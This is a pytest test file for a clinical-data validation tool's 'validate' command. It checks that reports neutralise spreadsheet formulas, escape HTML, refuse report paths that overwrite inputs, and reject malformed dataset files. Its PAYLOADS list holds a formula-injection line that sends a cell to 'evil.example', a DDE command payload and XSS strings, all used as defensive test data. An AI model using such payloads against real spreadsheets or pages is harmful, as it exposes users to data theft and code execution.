"""`sdtm-ra validate` on hostile or broken inputs: reports a spreadsheet cannot run as formulas, a
report path never overwrites (or becomes) an input, a folder named like a dataset, XPT/CSV/parquet
files with a variable name used twice, ragged or empty CSV files, unreadable files. Every case is
an exit status with one line naming the path, or a SYS0001 finding with the message asserted here;
never a traceback."""
from __future__ import annotations

import csv
import datetime as dt
import json
import os
import sys
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parent))
from validation_kit import clean_folder, edit  # noqa: E402

from sdtm_rA.io import xpt  # noqa: E402
from sdtm_rA.cli import main  # noqa: E402
from sdtm_rA.validation import report as rep  # noqa: E402
from sdtm_rA.validation.data import DatasetFileError, read_one  # noqa: E402


def cli(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    assert "Traceback" not in result.output + result.stderr
    return result


def refused(result, line: str):
    """Exit 2, nothing on stdout, exactly this one line on stderr."""
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    assert result.stderr.splitlines() == [line]


def findings(report: Path) -> list[dict]:
    return json.loads(report.read_text(encoding="utf-8"))["findings"]


def load_errors(report: Path) -> dict[str, str]:
    """SYS0001 messages by dataset."""
    return {f["dataset"]: f["message"] for f in findings(report) if f["rule"] == "SYS0001"}


@pytest.fixture
def folder(tmp_path):
    return clean_folder(tmp_path)


# ------------------------------------------------------------------------------------------------
# 1. formula injection in the CSV and XLSX reports; HTML escaping
# ------------------------------------------------------------------------------------------------
# One DM.SEX value per subject (rows 1-6); each is off the SEX codelist, so SD0204 reports it with
# the value. '-1.5' is a plain number, which a spreadsheet shows as -1.5: left as it is.
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+2", "-1.5"]
NEUTRALISED = ['\'=HYPERLINK("http://evil.example/?d="&A1,"click")', "'+cmd|' /C calc'!A0", "'-2+3",
               "'@SUM(A1:A9)", "'\t=1+2", "-1.5"]


def test_csv_report_neutralises_formulas(folder, tmp_path):
    edit(folder, "DM", lambda df: df.assign(SEX=PAYLOADS))
    report = tmp_path / "r.csv"
    res = cli("validate", folder, "--report", report)
    assert res.exit_code == 1, res.output
    with open(report, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    sex = {int(r["row"]): r for r in rows if r["rule"] == "SD0204" and r["variable"] == "SEX"}
    assert [sex[i]["value"] for i in range(1, 7)] == NEUTRALISED
    # the message repeats the value, but starts with the variable name: nothing to neutralise
    assert sex[3]["message"].startswith("SEX = '-2+3' is not in codelist SEX")
    # no field of the file starts with a formula character, except plain numbers
    starts = [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == ["-1.5"]


def test_csv_quotes_semicolons_so_no_value_starts_a_cell(study_result, tmp_path):
    """Excel in many locales splits CSV fields on ';': a value 'a;=1+2' unquoted would put =1+2 at
    the start of a cell."""
    path = rep.write_report(study_result(["a;=1+2", "\r=1+2", "\x00=1", "+1", ".5", "-", "'=x"]), tmp_path / "r.csv")
    text = path.read_bytes().decode("utf-8")
    lines = text.split("\n")
    assert lines[1].endswith(',"a;=1+2",m')
    assert lines[2].endswith(",\"'\r=1+2\",m")        # CR inside quotes, behind the quote
    assert lines[3].endswith(",'\x00=1,m")
    assert lines[4].endswith(",+1,m")                   # plain numbers as they are
    assert lines[5].endswith(",.5,m")
    assert lines[6].endswith(",'-,m")                   # a lone minus is not a number
    assert lines[7].endswith(",'=x,m")                  # already behind a quote: not formula-like


@pytest.mark.parametrize("text,expected", [
    ("=1+2", True), ("+1", False), ("+1+1", True), ("-1.5", False), ("-1.5e3", False),
    ("-", True), ("-A1", True), ("@SUM(A1)", True), ("\tfoo", True), ("\rfoo", True),
    ("\x00", True), ("", False), ("1=1", False), (" =1", False), ("F", False), ("-.5", False),
    ("-1.", False), ("1-2", False), ("--1", True),
])
def test_formula_like(text, expected):
    assert rep.formula_like(text) is expected


@pytest.fixture
def study_result(tmp_path):
    """A ValidationResult over the clean folder with one SEX finding per given value."""
    from sdtm_rA.validation.data import load_folder
    from sdtm_rA.validation.engine import ValidationResult
    from sdtm_rA.validation.model import FINDING_COLUMNS
    study = load_folder(clean_folder(tmp_path / "s"))

    def make(values):
        rows = [dict(rule="ZZ0001", severity="error", dataset="DM", variable="SEX", row=i + 1,
                     usubjid="U", seq="", value=v, message="m") for i, v in enumerate(values)]
        return ValidationResult(study, pd.DataFrame(rows, columns=FINDING_COLUMNS), 1.0, {"ZZ0001": 0.1})
    return make


def test_xlsx_report_keeps_values_and_marks_formulas_as_text(folder, tmp_path):
    from openpyxl import load_workbook
    edit(folder, "DM", lambda df: df.assign(SEX=PAYLOADS))
    report = tmp_path / "r.xlsx"
    assert cli("validate", folder, "--report", report).exit_code == 1
    ws = load_workbook(report)["Findings"]
    header = [c.value for c in ws[1]]
    col = {name: i for i, name in enumerate(header)}
    cells = {}
    for row in ws.iter_rows(min_row=2):
        if row[col["rule"]].value == "SD0204" and row[col["variable"]].value == "SEX":
            cells[row[col["row"]].value] = row[col["value"]]
    assert [cells[i].value for i in range(1, 7)] == PAYLOADS        # the values as they are
    assert all(cells[i].data_type == "s" for i in range(1, 7))      # text cells, never formulas
    assert [bool(cells[i].quotePrefix) for i in range(1, 7)] == [True] * 5 + [False]


def test_xlsx_summary_sheet_folder_name_is_text(study_result, tmp_path):
    from openpyxl import load_workbook
    result = study_result(["x"])
    result.study.folder = Path("=SUM(1+1)")
    ws = load_workbook(rep.write_report(result, tmp_path / "r.xlsx"))["Summary"]
    folder_cell = ws.cell(row=2, column=2)
    assert folder_cell.value == "=SUM(1+1)"
    assert folder_cell.data_type == "s" and folder_cell.quotePrefix


def test_html_report_escapes_values(folder, tmp_path):
    edit(folder, "DM", lambda df: df.assign(SEX=["<script>alert(1)</script>", "F", "F", "F", "M",
                                                 "<img src=x onerror=alert(2)>"]))
    report = tmp_path / "r.html"
    assert cli("validate", folder, "--report", report).exit_code == 1
    page = report.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert "<script>alert" not in page and "<img" not in page


# ------------------------------------------------------------------------------------------------
# 2. a report path must not overwrite an input or become one
# ------------------------------------------------------------------------------------------------
@pytest.fixture
def csv_folder(tmp_path):
    """DM and AE of the clean folder as CSV files."""
    import pyreadstat
    src = clean_folder(tmp_path / "xpt")
    dest = tmp_path / "csv"
    dest.mkdir()
    for name in ("dm", "ae"):
        df, _ = pyreadstat.read_xport(str(src / f"{name}.xpt"))
        df.to_csv(dest / f"{name}.csv", index=False)
    return dest


def test_report_over_an_input_dataset_is_refused(csv_folder, tmp_path):
    ae = csv_folder / "ae.csv"
    before = ae.read_bytes()
    first = tmp_path / "r.json"
    res = cli("validate", csv_folder, "--report", first, "--report", ae)
    refused(res, f"validate: the report {ae} would overwrite the dataset file {ae} that is being "
                 f"validated; write the report elsewhere")
    assert ae.read_bytes() == before
    assert not first.exists()                 # refused before anything ran or was written


def test_report_path_with_dotdot_is_resolved(csv_folder):
    (csv_folder / "sub").mkdir()
    sneaky = csv_folder / "sub" / ".." / "ae.csv"
    before = (csv_folder / "ae.csv").read_bytes()
    refused(cli("validate", csv_folder, "--report", sneaky),
            f"validate: the report {sneaky} would overwrite the dataset file {csv_folder / 'ae.csv'} "
            f"that is being validated; write the report elsewhere")
    assert (csv_folder / "ae.csv").read_bytes() == before


def test_report_over_the_file_a_dataset_link_points_to_is_refused(csv_folder, tmp_path):
    elsewhere = tmp_path / "store"
    elsewhere.mkdir()
    real = elsewhere / "ae_data.csv"
    (csv_folder / "ae.csv").rename(real)
    (csv_folder / "ae.csv").symlink_to(real)
    before = real.read_bytes()
    refused(cli("validate", csv_folder, "--report", real),
            f"validate: the report {real} would overwrite the dataset file {csv_folder / 'ae.csv'} "
            f"that is being validated; write the report elsewhere")
    assert real.read_bytes() == before and (csv_folder / "ae.csv").is_symlink()


def test_new_csv_report_inside_the_folder_is_refused(csv_folder):
    target = csv_folder / "findings.csv"
    refused(cli("validate", csv_folder, "--report", target),
            f"validate: the report {target} would be written into the validated folder {csv_folder} "
            f"as a .csv file, which the next validation would read as a dataset; write it outside "
            f"{csv_folder} (or as .json, .html or .xlsx)")
    assert not target.exists()


def test_json_report_inside_the_folder_is_fine(csv_folder):
    res = cli("validate", csv_folder, "--report", csv_folder / "findings.json")
    assert res.exit_code in (0, 1), res.output
    assert (csv_folder / "findings.json").is_file()


# ------------------------------------------------------------------------------------------------
# 3. an entry named like a dataset that is not a file
# ------------------------------------------------------------------------------------------------
def test_folder_named_like_a_dataset_is_an_error(folder):
    (folder / "cm.xpt").mkdir()
    refused(cli("validate", folder), f"validate: {folder / 'cm.xpt'} is a folder, not a dataset file")


def test_broken_link_named_like_a_dataset_is_an_error(folder, tmp_path):
    (folder / "cm.csv").symlink_to(tmp_path / "gone.csv")
    refused(cli("validate", folder),
            f"validate: {folder / 'cm.csv'} is a broken symbolic link (to {tmp_path / 'gone.csv'}), "
            f"not a dataset file")


# ------------------------------------------------------------------------------------------------
# 4. a variable name used twice
# ------------------------------------------------------------------------------------------------
NAMESTR_START = 8 * 80      # TS-140: 8 header records of 80 bytes, then one 140-byte NAMESTR per variable


def write_with_repeated_name(path: Path) -> None:
    """AE with five variables; the fifth (AETERM) renamed AESEQ in its NAMESTR record (name: bytes
    8-16 of the record), so that variables 4 and 5 are both AESEQ."""
    df = pd.DataFrame({"STUDYID": ["S1", "S1"], "DOMAIN": ["AE", "AE"], "USUBJID": ["S1-1", "S1-2"],
                       "AESEQ": [1.0, 2.0], "AETERM": ["HEADACHE", "NAUSEA"]})
    xpt.write_xpt(df, path, name="AE", label="Adverse Events", created=dt.datetime(2024, 1, 1))
    data = bytearray(path.read_bytes())
    rec = NAMESTR_START + 4 * 140
    assert data[rec + 8:rec + 16] == b"AETERM  "
    data[rec + 8:rec + 16] = b"AESEQ   "
    path.write_bytes(bytes(data))


REPEATED = "the variable name AESEQ (variables 4 and 5) is used more than once; each variable needs its own name"


@pytest.mark.parametrize("reader", [xpt.read_xpt_fast, xpt.read_xpt, xpt.xpt_column_names])
def test_every_xpt_reader_refuses_a_repeated_name(tmp_path, reader):
    path = tmp_path / "ae.xpt"
    write_with_repeated_name(path)
    with pytest.warns(UserWarning) if reader is xpt.read_xpt else _nothing():
        with pytest.raises(xpt.XptError) as info:
            reader(path)
    assert str(info.value) == f"{path}: {REPEATED}"


class _nothing:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


def test_read_xpt_fast_with_columns_refuses_a_repeated_name(tmp_path):
    """derive reads only the columns it needs: the header is still checked as a whole."""
    path = tmp_path / "ae.xpt"
    write_with_repeated_name(path)
    with pytest.raises(xpt.XptError, match="AESEQ \\(variables 4 and 5\\)"):
        xpt.read_xpt_fast(path, columns=["USUBJID"])


def test_validate_reports_a_repeated_xpt_name(folder, tmp_path):
    write_with_repeated_name(folder / "ae.xpt")
    report = tmp_path / "r.json"
    res = cli("validate", folder, "--report", report)
    assert res.exit_code == 1, res.output
    assert load_errors(report)["AE"] == f"ae.xpt cannot be read: {REPEATED}"
    assert not [f for f in findings(report) if f["message"].startswith("rule could not run")]


def test_derive_reports_a_repeated_xpt_name(folder, tmp_path):
    from sdtm_rA.adam.derive import read_sdtm_folder
    from sdtm_rA.errors import ConversionError
    write_with_repeated_name(folder / "ae.xpt")
    for columns in (None, {"AE": {"USUBJID"}}):
        with pytest.raises(ConversionError) as info:
            read_sdtm_folder(folder, columns)
        assert REPEATED in str(info.value) and str(folder / "ae.xpt") in str(info.value)


def test_csv_with_a_repeated_column_name(folder, tmp_path):
    (folder / "cm.csv").write_text("STUDYID,DOMAIN,USUBJID,CMSEQ,CMTRT,CMTRT\nS,CM,S-1,1,A,B\n",
                                   encoding="utf-8")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    assert load_errors(report)["CM"] == ("cm.csv cannot be read: the column name CMTRT (columns 5 and 6) "
                                         "is used more than once; each column needs its own name")


def test_parquet_with_a_repeated_column_name(folder, tmp_path):
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq
    table = pa.table([pa.array(["S"]), pa.array(["A"]), pa.array(["B"])], names=["STUDYID", "CMTRT", "CMTRT"])
    pq.write_table(table, folder / "cm.parquet")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    assert load_errors(report)["CM"] == ("cm.parquet cannot be read: the column name CMTRT (columns 2 and 3) "
                                         "is used more than once; each column needs its own name")


# ------------------------------------------------------------------------------------------------
# 7. files that cannot be read: one finding each, never a traceback
# ------------------------------------------------------------------------------------------------
CM_HEADER = "STUDYID,DOMAIN,USUBJID,CMSEQ,CMTRT\n"


@pytest.mark.parametrize("text,problem", [
    # line 3 lacks CMTRT: pandas would fill it with '' and say nothing
    (CM_HEADER + "S,CM,S-1,1,ASPIRIN\nS,CM,S-1,2\n",
     "line 3 has 4 fields, the header (line 1) has 5: 'S,CM,S-1,2' (a row cut short?)"),
    # the first record has one field too many: pandas would take 'S' as the row label and shift
    # every value one column to the left
    (CM_HEADER + "S,CM,S-1,1,ASPIRIN,X\nS,CM,S-1,2,IBUPROFEN,Y\n",
     "2 rows have more fields than the header (line 1, 5 fields): lines 2, 3; line 2 has 6: "
     "'S,CM,S-1,1,ASPIRIN,X' (a separator inside a value that is not quoted?)"),
    # rows too short and too long: both named, in one line
    (CM_HEADER + "S,CM,S-1,1\nS,CM,S-1,2,A,B\n",
     "line 2 has 4 fields, the header (line 1) has 5: 'S,CM,S-1,1' (a row cut short?); line 3 has 6 "
     "fields, the header (line 1) has 5: 'S,CM,S-1,2,A,B' (a separator inside a value that is not quoted?)"),
    # a quote that is never closed swallows the rest of the file into one value
    (CM_HEADER + "S,CM,S-1,1,ASPIRIN\n\"S,CM,S-1,2,IBUPROFEN\nS,CM,S-1,3,PARACETAMOL\n",
     "the quoted value that starts on line 3 is never closed (a '\"' is missing)"),
    # the same after a quote inside an unquoted value (read record by record)
    (CM_HEADER + 'S,CM,S-1,1,12" ruler\nS,CM,S-1,2,"IBUPROFEN\n',
     "the quoted value that starts on line 3 is never closed (a '\"' is missing)"),
    # a line of blanks is a record of one field, not a blank line to skip
    (CM_HEADER + "S,CM,S-1,1,ASPIRIN\n   \n",
     "line 3 has 1 field, the header (line 1) has 5: '   ' (a row cut short?)"),
])
def test_ragged_csv_is_an_error_finding(folder, tmp_path, text, problem):
    (folder / "cm.csv").write_text(text, encoding="utf-8")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    assert load_errors(report)["CM"] == f"cm.csv cannot be read: {problem}"


def test_ragged_csv_lists_ten_lines_and_counts_the_rest(tmp_path):
    path = tmp_path / "cm.csv"
    path.write_text(CM_HEADER + "S,CM,S-1,1\n" * 12, encoding="utf-8")
    with pytest.raises(DatasetFileError) as info:
        read_one(path)
    assert str(info.value) == ("12 rows have fewer fields than the header (line 1, 5 fields): lines 2, 3, 4, "
                               "5, 6, 7, 8, 9, 10, 11 (+2 more); line 2 has 4: 'S,CM,S-1,1' (a row cut short?)")


def test_csv_with_quoted_line_breaks_and_blank_lines_reads(tmp_path):
    """Not ragged: a quoted value over two lines, a blank line, a BOM."""
    path = tmp_path / "cm.csv"
    path.write_text("\ufeff" + CM_HEADER + 'S,CM,S-1,1,"ASPIRIN\n100 mg"\n\nS,CM,S-1,2,IBUPROFEN\n',
                    encoding="utf-8")
    df, meta = read_one(path)
    assert list(df.columns) == ["STUDYID", "DOMAIN", "USUBJID", "CMSEQ", "CMTRT"]
    assert df["CMTRT"].tolist() == ["ASPIRIN\n100 mg", "IBUPROFEN"]
    assert df["CMSEQ"].tolist() == ["1", "2"] and meta["var_types"]["CMSEQ"] == "Char"   # text, as stored


def test_csv_with_a_long_value_and_a_stray_quote_leaves_the_csv_module_as_it_was(tmp_path):
    """A value longer than the csv module's default field limit (131,072 characters) in a file read
    record by record (a quote inside an unquoted value): read, and the process-wide limit restored."""
    limit = csv.field_size_limit()
    long = "x" * 200_000
    path = tmp_path / "cm.csv"
    path.write_text(CM_HEADER + f'S,CM,S-1,1,"{long}"\nS,CM,S-1,2,12" ruler\n', encoding="utf-8")
    df, _ = read_one(path)
    assert df["CMTRT"].tolist() == [long, '12" ruler']
    assert csv.field_size_limit() == limit


def test_csv_not_utf8_names_the_byte_and_line(folder, tmp_path):
    (folder / "cm.csv").write_bytes((CM_HEADER + "S,CM,S-1,1,ASPIRIN\nS,CM,S-1,2,CAF\xc9\n").encode("latin-1"))
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    # 0xc9 opens a two-byte UTF-8 sequence; the newline after it cannot continue one
    assert load_errors(report)["CM"] == ("cm.csv cannot be read: not UTF-8 text: byte 0xc9 on line 3 "
                                         "(invalid continuation byte); save the file as UTF-8")


@pytest.mark.parametrize("name", ["cm.xpt", "cm.csv", "cm.parquet"])
def test_zero_byte_file(folder, tmp_path, name):
    (folder / name).write_bytes(b"")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    assert load_errors(report)["CM"] == f"{name} cannot be read: the file is empty (0 bytes)"


def test_csv_starting_with_a_blank_line(folder, tmp_path):
    (folder / "cm.csv").write_text("\n" + CM_HEADER + "S,CM,S-1,1,ASPIRIN\n", encoding="utf-8")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    assert load_errors(report)["CM"] == "cm.csv cannot be read: line 1, the header row, is blank"


def test_unreadable_parquet(folder, tmp_path):
    pytest.importorskip("pyarrow")
    (folder / "cm.parquet").write_bytes(b"PAR1 this is not really parquet")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    message = load_errors(report)["CM"]
    # the rest is pyarrow's own explanation (its wording may change between versions)
    assert message.startswith("cm.parquet cannot be read: ") and "parquet" in message[27:].lower()
    assert "ArrowInvalid" not in message and str(folder) not in message


def test_parquet_index_comes_back_as_a_variable(tmp_path):
    """df.set_index('USUBJID').to_parquet(): USUBJID is stored as the pandas index; dropping it as
    row labels would lose the variable."""
    pytest.importorskip("pyarrow")
    df = pd.DataFrame({"STUDYID": ["S", "S"], "USUBJID": ["S-1", "S-2"], "CMTRT": ["A", "B"]})
    df.set_index("USUBJID").to_parquet(tmp_path / "cm.parquet")
    got, _ = read_one(tmp_path / "cm.parquet")
    assert sorted(got.columns) == ["CMTRT", "STUDYID", "USUBJID"]
    assert got.sort_values("USUBJID")["USUBJID"].tolist() == ["S-1", "S-2"]


def test_file_without_read_permission_simulated(folder, tmp_path, monkeypatch):
    """As root (CI containers) chmod does not stop reading: the error the OS gives is injected."""
    real_open = open

    def guarded(file, *a, **kw):
        if str(file).endswith("dm.xpt"):
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *a, **kw)
    monkeypatch.setattr("builtins.open", guarded)
    report = tmp_path / "r.json"
    res = cli("validate", folder, "--report", report)
    monkeypatch.undo()
    assert res.exit_code == 1, res.output
    assert load_errors(report)["DM"] == "dm.xpt cannot be read: permission denied"


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their permissions")
def test_file_without_read_permission(folder, tmp_path):
    (folder / "dm.xpt").chmod(0)
    report = tmp_path / "r.json"
    res = cli("validate", folder, "--report", report)
    assert res.exit_code == 1, res.output
    assert load_errors(report)["DM"] == "dm.xpt cannot be read: permission denied"


def test_parquet_binary_column_that_is_not_text(folder, tmp_path):
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq
    pq.write_table(pa.table({"STUDYID": ["RAMSC01"], "CMTRT": [b"\xffA"]}), folder / "cm.parquet")
    report = tmp_path / "r.json"
    assert cli("validate", folder, "--report", report).exit_code == 1
    assert load_errors(report)["CM"] == ("cm.parquet cannot be read: variable CMTRT holds bytes that are "
                                         "not UTF-8 text (invalid start byte at byte 0 of a value)")
